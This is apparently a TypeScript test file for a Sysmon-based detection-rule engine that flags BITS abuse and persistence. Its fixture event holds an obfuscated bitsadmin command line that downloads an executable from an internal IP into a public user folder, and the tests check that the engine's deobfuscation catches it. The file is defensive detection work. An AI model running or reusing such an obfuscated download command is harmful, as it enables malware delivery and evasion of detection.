import {mkdirSync, writeFileSync} from 'node:fs'
import {join} from 'node:path'
import t from 'tap'
import {compileRuleText, listRules, loadRules, MODIFIERS, HELPERS, RuleError, runRules} from '../../src/analyzers/index.js'
import {compileCondition} from '../../src/analyzers/engine/compile.js'
import {sysmonProcess} from './fixtures/events.js'

const ev = sysmonProcess(7, '2024-01-01T00:00:00Z', {
  image: 'C:\\Windows\\System32\\cmd.exe',
  commandLine: 'C:\\Windows\\system32\\CMD.exe /c b^its"admin" -Transfer j http://10.0.0.1/a.exe C:\\Users\\Public\\a.exe',
  user: 'CORP\\alice',
  pid: 4242,
  parentImage: 'C:\\Windows\\explorer.exe',
})

function matches(condition: unknown): boolean {
  return compileCondition(condition)(ev)
}

t.test('each comparison modifier', async t => {
  t.equal(matches({'process.image': 'c:\\windows\\system32\\cmd.exe'}), true, 'equals, case-insensitive by default')
  t.equal(matches({'process.image|cased': 'c:\\windows\\system32\\cmd.exe'}), false, 'cased')
  t.equal(matches({'process.image|endswith': '\\cmd.exe'}), true)
  t.equal(matches({'process.image|startswith': 'C:\\Windows\\'}), true)
  t.equal(matches({'process.commandLine|contains': 'transfer'}), true)
  t.equal(matches({'process.commandLine|contains': 'bitsadmin'}), false, 'obfuscated without |cmd')
  t.equal(matches({'process.commandLine|cmd|contains': 'bitsadmin /transfer'}), true, '|cmd undoes carets, quotes, -switches')
  t.equal(matches({'process.commandLine|cmd|contains|all': ['bitsadmin', '/transfer', 'nothere']}), false, '|all')
  t.equal(matches({'process.commandLine|cmd|contains': ['nothere', '/transfer']}), true, 'list is any-of')
  t.equal(matches({'process.commandLine|re': 'https?://\\d+\\.\\d+'}), true, 're')
  t.equal(matches({'process.pid|gt': 4000, 'process.pid|lt': 5000}), true, 'gt/lt')
  t.equal(matches({'process.pid|gte': 4242, 'process.pid|lte': 4242}), true, 'gte/lte')
  t.equal(matches({'process.pid|gt': 4242}), false)
  t.equal(matches({'process.hashes|exists': false, 'process.user|exists': true}), true, 'exists')
  t.equal(matches({'process.image|basename': 'cmd.exe'}), true, 'basename')
  t.equal(matches({'process.image|path|startswith': 'c:\\windows\\system32\\'}), true, 'path')
  t.equal(matches({'process.commandLine|contains|windash': '-Transfer'}), true, 'windash expands - to /')
  t.equal(matches({'process.commandLine|contains': '/Transfer'}), false)
  t.equal(MODIFIERS.size, 16)
})

t.test('all / any / not / check', async t => {
  t.equal(matches({any: [{'process.image|endswith': 'x.exe'}, {check: 'isLolbin(process.image)'}]}), true)
  t.equal(matches({all: [{'process.image|endswith': 'cmd.exe'}, {not: {check: 'isInteractiveUser(process.user)'}}]}), false)
  t.equal(matches({check: ['isLolbin(process.image)', 'hasSuspiciousBitsTransfer(process.commandLine)']}), true)
  t.equal(matches({check: 'isBitsHostSvchost'}), false)
  t.ok(HELPERS.has('isBitsHostSvchost') && HELPERS.has('isUserWritablePath') && HELPERS.has('isInteractiveUser'))
})

t.test('bad conditions name what is wrong', async t => {
  t.throws(() => compileCondition({'process.imag': 'x'}), /condition\.process\.imag: unknown field "process\.imag"/)
  t.throws(() => compileCondition({'process.image|endwith': 'x'}), /unknown modifier "endwith"/)
  t.throws(() => compileCondition({'process.image|contains|endswith': 'x'}), /more than one comparison/)
  t.throws(() => compileCondition({check: 'isNothing(process.image)'}), /unknown helper "isNothing"/)
  t.throws(() => compileCondition({check: 'isLolbin'}), /needs a field/)
  t.throws(() => compileCondition({check: 'isBitsHostSvchost(process.image)'}), /takes no field/)
  t.throws(() => compileCondition({'process.pid|gt': 'many'}), /gt needs a number/)
  t.throws(() => compileCondition({'process.image|re': '('}), /bad value for re/)
  t.throws(() => compileCondition({any: []}), /any needs a non-empty list/)
  t.throws(() => compileCondition(['x']), /expected a mapping/)
})

const GOOD = `id: test-rule
title: Test
description: A test rule
techniques: [T1197]
severity: high
appliesTo: [{category: process}]
condition: {process.image|endswith: '\\cmd.exe'}
fields: [process.image]
summary: 'ran {process.image} as {process.user}'
`

t.test('rule files are validated with file and rule named', async t => {
  const [rule] = compileRuleText(GOOD, 'x.yml')
  t.equal(rule!.spec.id, 'test-rule')
  const hits = runRules([rule!], ev)
  t.equal(hits.findings.length, 1)
  t.equal(hits.findings[0]!.summary, 'ran C:\\Windows\\System32\\cmd.exe as CORP\\alice')
  t.same(hits.findings[0]!.fields, {'process.image': 'C:\\Windows\\System32\\cmd.exe'})
  const bad = (text: string, rx: RegExp): void => {
    let caught: unknown
    try {
      compileRuleText(text, 'bad.yml')
    } catch (error) {
      caught = error
    }
    t.ok(caught instanceof RuleError, `RuleError for ${rx}`)
    t.match((caught as Error | undefined)?.message ?? '', rx)
  }
  bad(GOOD.replace('fields:', 'field:'), /^bad\.yml \(rule test-rule\): unknown key "field"/)
  bad(GOOD.replace('endswith', 'endwith'), /^bad\.yml \(rule test-rule\): condition\.process\.image\|endwith: unknown modifier "endwith"/)
  bad(GOOD.replace('severity: high', 'severity: severe'), /rule test-rule\): severity must be one of/)
  bad(GOOD.replace('[T1197]', '[Persistence]'), /technique "Persistence"/)
  bad(GOOD.replace('[process.image]', '[process.nope]'), /fields: unknown field "process\.nope"/)
  bad(GOOD.replace('{process.user}', '{user.nick}'), /summary: unknown field "user\.nick"/)
  bad(GOOD.replace('{category: process}', '{category: proc}'), /unknown category "proc"/)
  bad(GOOD.replace('{category: process}', '{kind: process}'), /unknown key "kind"/)
  bad('id: [x', /^bad\.yml: not valid YAML/)
})

t.test('loadRules reads a folder and rejects duplicate ids', async t => {
  const dir = t.testdir({'a.yml': GOOD, 'b.yml': GOOD.replace('test-rule', 'other-rule')})
  t.same(loadRules({dir}).map(r => r.spec.id), ['test-rule', 'other-rule'])
  writeFileSync(join(dir, 'c.yml'), GOOD)
  t.throws(() => loadRules({dir}), /c\.yml \(rule test-rule\): duplicate rule id/)
  const empty = join(dir, 'none')
  mkdirSync(empty)
  t.same(loadRules({dir: empty}), [])
  t.throws(() => loadRules({dir: join(dir, 'missing')}), /cannot read the rules folder/)
})

t.test('the bundled rules load and are listed with the code analyzers', async t => {
  const rules = loadRules()
  t.ok(rules.length >= 20)
  const listing = listRules(rules)
  const ids = listing.map(r => r.id)
  for (const id of ['bits-svchost-child-seed', 'bits-cmd-set-notify', 'run-key-suspicious', 'winlogon-helper-changed', 'service-install-suspicious', 'startup-folder-executable', 'bits-notify-launch', 'bits-job', 'bits-job-listed', 'scheduled-task', 'scheduled-task-bits']) {
    t.ok(ids.includes(id), id)
  }
  t.same(ids, [...ids].sort())
  const seed = listing.find(r => r.id === 'bits-svchost-child-seed')!
  t.equal(seed.role, 'signal')
  t.equal(seed.appliesTo, 'process process-start')
  t.equal(listing.find(r => r.id === 'bits-notify-launch')!.role, 'analyzer')
})
